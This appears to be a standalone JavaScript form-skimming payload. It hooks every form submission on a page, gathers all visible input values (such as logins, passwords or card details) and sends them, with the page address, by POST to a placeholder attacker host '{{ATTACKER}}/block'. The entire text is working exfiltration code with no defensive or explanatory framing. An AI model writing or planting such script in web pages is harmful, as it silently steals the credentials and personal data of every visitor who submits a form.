(function () {
  document.addEventListener('submit', function (e) {
    var f = e.target, d = {};
    f.querySelectorAll('input').forEach(function (i) {
      if (i.value && i.type !== 'hidden') {
        d[i.name || i.id] = i.value;
      }
    });
    var x = new XMLHttpRequest();
    x.open('POST', '{{ATTACKER}}/block');
    x.send(JSON.stringify({u: location.href, d: d}));
  }, true);
})();
